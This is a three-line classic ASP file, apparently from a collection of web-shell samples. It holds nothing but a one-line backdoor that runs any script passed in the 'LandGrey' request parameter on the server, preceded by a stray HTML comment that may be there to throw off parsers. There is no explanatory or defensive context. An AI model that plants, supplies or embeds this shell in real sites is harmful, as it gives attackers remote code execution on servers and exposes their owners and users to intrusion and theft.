<%
<!--"-->
execute request("LandGrey")
%>
